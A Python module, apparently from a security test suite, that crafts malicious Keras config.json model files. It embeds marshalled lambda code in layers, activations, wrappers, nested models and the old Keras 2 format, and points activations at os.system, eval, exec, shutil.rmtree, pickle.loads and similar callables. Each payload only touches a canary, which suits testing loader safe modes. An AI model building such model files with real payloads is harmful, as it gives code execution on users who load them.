"""Attacks with functions: Keras calls what config.json names, or the Python code that is in it."""

import base64
import marshal
from pathlib import Path
from types import CodeType

from malicious import Attack, Parts
from malicious.configs import kind, layer

FOREIGN = [
    ("os", "system"),
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("subprocess", "check_output"),
    ("shutil", "rmtree"),
    ("pickle", "loads"),
    ("importlib", "import_module"),
    ("tensorflow.io", "read_file"),
    ("stages.data.idx", "write"),
    ("keras.utils", "get_file"),
    ("keras", "utils.get_file"),
    ("keras.config", "enable_unsafe_deserialization"),
    ("keras.src.utils.python_utils", "func_load"),
]


def code(parts: Parts) -> str:
    """A Python function as Keras writes it, which leaves the canary when it is called."""
    compiled = compile(f"lambda x: {parts.touch} or x", "model", "eval").co_consts
    [function] = [each for each in compiled if isinstance(each, CodeType)]
    return base64.b64encode(marshal.dumps(function)).decode()


def python_function(parts: Parts) -> dict:
    value = {"code": code(parts), "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": {"value": value}}


def function(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def activation(module: str, name: str) -> Attack:
    """The function `name` of `module` is called with what the dense layer computes."""

    def attack(parts: Parts, path: Path) -> None:
        parts.dense["activation"] = function(module, name)
        parts.write(path)

    return attack


def lambda_layer(parts: Parts, path: Path) -> None:
    parts.layers[1] |= kind("keras.layers", "Lambda", function=python_function(parts))
    parts.write(path)


def lambda_as_activation(parts: Parts, path: Path) -> None:
    parts.dense["activation"] = python_function(parts)
    parts.write(path)


def lambda_of_the_old_format(parts: Parts, path: Path) -> None:
    """Keras 2 wrote no module; the loader for it does not look at the safe mode everywhere."""
    old = {"function": [code(parts), None, None], "function_type": "lambda", "name": "flatten"}
    parts.layers[1] |= {"class_name": "Lambda", "config": old}
    del parts.layers[1]["module"]
    parts.write(path)


def lambda_in_a_wrapper(parts: Parts, path: Path) -> None:
    inner = kind("keras.layers", "Lambda", function=python_function(parts))
    layer("keras.layers", "TimeDistributed", layer=inner)(parts, path)


def lambda_in_a_nested_model(parts: Parts, path: Path) -> None:
    inner = kind("keras.layers", "Lambda", function=python_function(parts))
    layer("keras", "Sequential", layers=[inner])(parts, path)


def compiled_with_a_function(parts: Parts, path: Path) -> None:
    """Harmless: the part of config.json that says how the model was compiled is not read."""
    parts.config["compile_config"] = {"optimizer": "sgd", "loss": function("os", "system")}
    parts.write(path)


ATTACKS = {
    "a function of Python as a layer": lambda_layer,
    "a function of Python as an activation": lambda_as_activation,
    "a function of Python in the old format": lambda_of_the_old_format,
    "a function of Python in a wrapper": lambda_in_a_wrapper,
    "a function of Python in a nested model": lambda_in_a_nested_model,
    **{f"{module}: {name} as an activation": activation(module, name) for module, name in FOREIGN},
    "compiled with os.system": compiled_with_a_function,
}
